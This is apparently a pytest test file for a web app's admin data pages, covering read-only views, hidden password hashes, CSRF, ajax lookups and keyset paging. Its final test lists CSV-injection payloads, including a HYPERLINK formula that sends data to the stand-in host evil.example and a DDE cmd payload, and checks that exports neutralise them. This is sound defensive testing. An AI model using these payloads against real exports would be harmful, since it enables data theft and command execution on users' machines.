"""The data pages: every table listed with readable labels, edits where they make sense,
read-only where they don't, and list pages whose cost does not grow with the table."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest
import sqlalchemy as sa

from pixcrawler.admin.base import spreadsheet_safe
from pixcrawler.extensions import db
from pixcrawler.models import (
    ActivityLog,
    AdminAccount,
    CrawlJob,
    ExportJob,
    Image,
    JobChunk,
    Profile,
    Project,
    ValidationJob,
)
from tests.admin.helpers import csrf_token

LIST_PAGES = [
    "profile",
    "adminaccount",
    "project",
    "crawljob",
    "jobchunk",
    "image",
    "validationjob",
    "exportjob",
    "activitylog",
]


def seed(app, images: int = 3) -> dict[str, int]:
    """One of everything, owned by a user profile, plus `images` images in one crawl job."""
    with app.app_context():
        owner = Profile(email="owner@example.com", full_name="Owner")
        project = Project(name="Cats project", owner=owner)
        job = CrawlJob(project=project, name="Tabby search", keywords=["tabby", "cat"])
        db.session.add_all([owner, project, job])
        db.session.flush()
        db.session.add_all(
            [
                ValidationJob(crawl_job=job, name="Size check"),
                ExportJob(crawl_job=job, user=owner, name="Zip for Ann"),
                ActivityLog(user=owner, action="created project", resource_type="project"),
                JobChunk(crawl_job=job, chunk_index=0, image_range={"start": 0, "end": 500}),
            ]
        )
        add_images(job.id, images)
        db.session.commit()
        return {"project": project.id, "job": job.id}


def add_images(job_id: int, count: int, start: int = 0) -> None:
    if not count:
        return
    rows = [
        {
            "crawl_job_id": job_id,
            "original_url": f"https://example.com/{i}.jpg",
            "filename": f"img-{i:05}.jpg",
        }
        for i in range(start, start + count)
    ]
    db.session.execute(sa.insert(Image), rows)


@contextmanager
def statements(app):
    """Every SQL statement the app sends meanwhile."""
    seen = Statements()
    offsets = seen.offsets = []
    seen.parameters = []
    with app.app_context():
        engine = db.engine

    def record(conn, cursor, statement, parameters, context, executemany):
        seen.append(statement)
        seen.parameters.append(parameters)
        offsets.append(offset_of(statement, parameters))

    sa.event.listen(engine, "before_cursor_execute", record)
    try:
        yield seen
    finally:
        sa.event.remove(engine, "before_cursor_execute", record)


class Statements(list):
    offsets: list
    parameters: list


def offset_of(statement: str, parameters) -> int | None:
    """The OFFSET a statement was sent with (None without one)."""
    named = re.search(r"OFFSET %\((\w+)\)s", statement)
    if named:
        return parameters[named.group(1)]
    if "OFFSET ?" in statement:
        return parameters[-1]
    return None


def listed_ids(page: str, endpoint: str) -> list[int]:
    """Row ids on a list page, from each row's details link."""
    found = re.findall(rf"/admin/{endpoint}/details/\?id=(\d+)", page)
    return [int(x) for x in dict.fromkeys(found)]


@pytest.mark.parametrize("endpoint", LIST_PAGES)
def test_every_list_and_details_page_opens(admin_app, admin, endpoint):
    seed(admin_app)
    page = admin.get(f"/admin/{endpoint}/")
    assert page.status_code == 200, page.get_data(as_text=True)[:500]
    text = page.get_data(as_text=True)
    assert 'id="schema-badge"' in text  # the navigation bar shows the revision everywhere
    link = re.search(rf'href="(/admin/{endpoint}/details/\?id=[^"]+)"', text)
    assert link, f"no row on /admin/{endpoint}/"
    detail = admin.get(link.group(1).replace("&amp;", "&"))
    assert detail.status_code == 200


def test_foreign_keys_show_readable_labels(admin_app, admin):
    seed(admin_app)
    assert "owner@example.com" in admin.get("/admin/project/").get_data(as_text=True)
    assert "Cats project" in admin.get("/admin/crawljob/").get_data(as_text=True)
    jobs = admin.get("/admin/exportjob/").get_data(as_text=True)
    assert "Tabby search" in jobs and "owner@example.com" in jobs
    images = admin.get("/admin/image/").get_data(as_text=True)
    assert re.search(r"#\d+ Tabby search", images)


def test_admin_accounts_never_show_the_password_hash(admin_app, admin):
    with admin_app.app_context():
        account = db.session.query(AdminAccount).one()
        password_hash, key = account.password_hash, account.profile_id
    pages = [
        "/admin/adminaccount/",
        f"/admin/adminaccount/details/?id={key}",
        "/admin/adminaccount/export/csv/",
        "/admin/adminaccount/?search=admin",
    ]
    for url in pages:
        response = admin.get(url)
        assert response.status_code == 200, url
        body = response.get_data(as_text=True)
        assert password_hash not in body and "password" not in body.lower(), url
        assert "admin@example.com" in body, url
    assert admin.get(f"/admin/adminaccount/edit/?id={key}").status_code == 302  # read-only


def test_images_and_activity_logs_are_read_only(admin_app, admin):
    ids = seed(admin_app)
    with admin_app.app_context():
        image_id = db.session.scalars(sa.select(Image.id)).first()
        log_id = db.session.scalars(sa.select(ActivityLog.id)).first()
    token = csrf_token(admin.get("/admin/").get_data(as_text=True))
    for endpoint, key in (("image", image_id), ("activitylog", log_id)):
        page = admin.get(f"/admin/{endpoint}/").get_data(as_text=True)
        assert f"/admin/{endpoint}/new/" not in page
        assert f"/admin/{endpoint}/edit/" not in page
        assert f"/admin/{endpoint}/delete/" not in page
        admin.post(f"/admin/{endpoint}/delete/", data={"id": key, "csrf_token": token})
        admin.post(
            f"/admin/{endpoint}/edit/?id={key}", data={"filename": "x", "csrf_token": token}
        )
        admin.post(f"/admin/{endpoint}/new/", data={"filename": "x", "csrf_token": token})
    with admin_app.app_context():
        assert db.session.query(Image).count() == 3
        assert db.session.get(Image, image_id).filename.startswith("img-")
        assert db.session.query(ActivityLog).count() == 1
        assert db.session.get(CrawlJob, ids["job"]) is not None


def test_admin_accounts_are_read_only(admin_app, admin):
    with admin_app.app_context():
        account = db.session.scalars(sa.select(AdminAccount)).one()
        key, password_hash = account.profile_id, account.password_hash
    token = csrf_token(admin.get("/admin/").get_data(as_text=True))
    page = admin.get("/admin/adminaccount/").get_data(as_text=True)
    for action in ("new", "edit", "delete"):
        assert f"/admin/adminaccount/{action}/" not in page
    admin.post("/admin/adminaccount/delete/", data={"id": str(key), "csrf_token": token})
    admin.post(
        f"/admin/adminaccount/edit/?id={key}",
        data={"password_hash": "x", "failed_logins": "3", "csrf_token": token},
    )
    with admin_app.app_context():
        kept = db.session.get(AdminAccount, key)
        assert kept is not None and kept.password_hash == password_hash
        assert kept.failed_logins == 0


def test_crawl_job_status_is_edited_from_the_enum(admin_app, admin):
    ids = seed(admin_app)
    url = f"/admin/crawljob/edit/?id={ids['job']}"
    form = admin.get(url).get_data(as_text=True)
    for status in ("pending", "running", "completed", "failed", "cancelled"):
        assert f'value="{status}"' in form
    fields = {
        "project": str(ids["project"]),
        "name": "Tabby search v2",
        "keywords": '["tabby"]',
        "max_images": "500",
        "progress": "40",
        "csrf_token": csrf_token(form),
    }
    bad = admin.post(url, data={**fields, "status": "exploded"})
    assert bad.status_code == 200  # the form again, with the error
    assert "Not a valid choice" in bad.get_data(as_text=True)
    good = admin.post(url, data={**fields, "status": "running"})
    assert good.status_code == 302
    with admin_app.app_context():
        job = db.session.get(CrawlJob, ids["job"])
        assert (job.name, job.status, job.max_images, job.keywords) == (
            "Tabby search v2",
            "running",
            500,
            ["tabby"],
        )


def test_foreign_keys_are_looked_up_by_ajax(admin_app, admin):
    seed(admin_app)
    form = admin.get("/admin/project/new/").get_data(as_text=True)
    assert "owner@example.com" not in form  # no select box holding every profile
    found = admin.get("/admin/project/ajax/lookup/?name=owner&query=owner@").get_json()
    assert [label for _, label in found] == ["owner@example.com"]
    found = admin.get("/admin/crawljob/ajax/lookup/?name=project&query=Cats").get_json()
    assert [label for _, label in found] == ["Cats project"]
    assert admin.get("/admin/project/ajax/lookup/?name=owner&query=zzz").get_json() == []


def test_project_create_and_delete(admin_app, admin):
    seed(admin_app)
    with admin_app.app_context():
        owner_id = db.session.scalars(
            sa.select(Profile.id).where(Profile.email == "owner@example.com")
        ).one()
    form = admin.get("/admin/project/new/").get_data(as_text=True)
    data = {"name": "Dogs", "owner": str(owner_id), "status": "active"}
    response = admin.post("/admin/project/new/", data={**data, "csrf_token": csrf_token(form)})
    assert response.status_code == 302
    with admin_app.app_context():
        project = db.session.scalars(sa.select(Project).where(Project.name == "Dogs")).one()
        assert project.user_id == owner_id
        key = project.id
    token = csrf_token(admin.get("/admin/project/").get_data(as_text=True))
    assert admin.post("/admin/project/delete/", data={"id": key}).status_code == 400  # CSRF
    response = admin.post("/admin/project/delete/", data={"id": key, "csrf_token": token})
    assert response.status_code == 302
    with admin_app.app_context():
        assert db.session.get(Project, key) is None


def add_logs(user_id, count: int, start: int = 0) -> None:
    rows = [
        {"user_id": user_id, "action": f"action {i}", "resource_type": "project"}
        for i in range(start, start + count)
    ]
    db.session.execute(sa.insert(ActivityLog), rows)


def add_chunks(job_id: int, count: int, start: int = 0) -> None:
    rows = [
        {
            "job_id": job_id,
            "chunk_index": i,
            "image_range": {"start": 500 * i, "end": 500 * i + 500},
        }
        for i in range(start, start + count)
    ]
    db.session.execute(sa.insert(JobChunk), rows)


def new_job(ids: dict[str, int], n: int) -> int:
    job = CrawlJob(project_id=ids["project"], name=f"job {n}", keywords=["x"])
    db.session.add(job)
    db.session.flush()
    return job.id


def new_user(ids: dict[str, int], n: int):
    profile = Profile(email=f"user{n}@example.com")
    db.session.add(profile)
    db.session.flush()
    return profile.id


def first_user(ids: dict[str, int]):
    return db.session.scalars(
        sa.select(Profile.id).where(Profile.email == "owner@example.com")
    ).one()


@dataclass(frozen=True)
class BigList:
    """A list page over a table that grows without bound, and how to add rows to it."""

    endpoint: str
    table: str
    add_rows: Callable[..., None]  # (parent, count, start)
    new_parent: Callable[[dict[str, int], int], Any]  # a crawl job or a profile
    first_parent: Callable[[dict[str, int]], Any]


# README: these lists never run COUNT(*) and page by keyset (`?after=`) in the default order.
BIG_LISTS = [
    BigList("image", "images", add_images, new_job, lambda ids: ids["job"]),
    BigList("activitylog", "activity_logs", add_logs, new_user, first_user),
    BigList("jobchunk", "job_chunks", add_chunks, new_job, lambda ids: ids["job"]),
]


def table_ids(app, table: str) -> list[int]:
    """Every id in a table, read directly, in ascending order."""
    with app.app_context():
        query = sa.select(sa.column("id")).select_from(sa.table(table)).order_by("id")
        return list(db.session.scalars(query))


@pytest.mark.parametrize("big", BIG_LISTS, ids=lambda big: big.endpoint)
def test_big_lists_cost_the_same_queries_for_any_size(admin_app, admin, big):
    """No COUNT over the table, no query per row: the statements do not depend on the rows."""
    ids = seed(admin_app, images=0)
    with admin_app.app_context():
        big.add_rows(big.first_parent(ids), 5, 100)
        db.session.commit()
    url = f"/admin/{big.endpoint}/?page_size=100"
    admin.get(url)  # warm up the session's own lookups
    with statements(admin_app) as small:
        assert admin.get(url).status_code == 200
    with admin_app.app_context():
        # Rows under 40 other parents: a query per row would show as one per parent.
        for n in range(40):
            big.add_rows(big.new_parent(ids, n), 2, 1000 + 2 * n)
        db.session.commit()
    with statements(admin_app) as large:
        page = admin.get(url).get_data(as_text=True)
    assert listed_ids(page, big.endpoint) == table_ids(admin_app, big.table)[::-1]
    assert len(large) == len(small), large
    assert not [s for s in small + large if "count(" in s.lower()]
    assert f"ORDER BY {big.table}.id DESC" in " ".join(large)


@pytest.mark.parametrize("big", BIG_LISTS, ids=lambda big: big.endpoint)
def test_big_lists_are_paged_by_keyset(admin_app, admin, big):
    ids = seed(admin_app, images=0)
    with admin_app.app_context():
        big.add_rows(big.first_parent(ids), 45, 100)
        db.session.commit()
    all_ids = table_ids(admin_app, big.table)
    assert 40 < len(all_ids) <= 60  # three pages of 20
    seen: list[int] = []
    url = f"/admin/{big.endpoint}/"
    with statements(admin_app) as sql:
        while url and len(seen) <= len(all_ids):  # an Older link that went nowhere would loop
            page = admin.get(url).get_data(as_text=True)
            seen += listed_ids(page, big.endpoint)
            older = re.search(r'<a class="page-link" href="([^"#]+)">Older', page)
            url = older.group(1).replace("&amp;", "&") if older else None
            assert url is None or "after=" in url
    assert seen == all_ids[::-1]  # every row once, newest first, in pages of 20
    assert not [s for s in sql if "count(" in s.lower()]
    listed = [i for i, s in enumerate(sql) if f"FROM {big.table}" in s and "LIMIT" in s]
    assert len(listed) == 3
    assert all(sql.offsets[i] in (None, 0) for i in listed)  # never skips rows by OFFSET
    assert all(f"{big.table}.id <" in sql[i] for i in listed[1:])  # a range on the key instead


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_exports_never_hand_a_spreadsheet_a_formula(admin_app, admin):
    """OWASP's CSV injection: such cells start with an apostrophe in the CSV and JSON exports;
    other text and numbers are exported as they are."""
    seed(admin_app)
    with admin_app.app_context():
        owner = db.session.scalars(sa.select(Profile).where(Profile.email.like("owner%"))).one()
        db.session.add_all(Project(name=name, owner=owner) for name in FORMULAS)
        db.session.commit()
    expected = {*(f"'{name}" for name in FORMULAS), "Cats project"}
    response = admin.get("/admin/project/export/csv/")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert {row["Name"] for row in rows} == expected
    assert all(row["Id"].isdigit() for row in rows)
    response = admin.get("/admin/project/export/json/")
    assert response.status_code == 200
    assert {row["Name"] for row in json.loads(response.get_data(as_text=True))} == expected


def test_spreadsheet_safe_leaves_numbers_alone():
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe(None) is None
    assert spreadsheet_safe("-5") == "'-5"
    assert spreadsheet_safe("a=b") == "a=b"
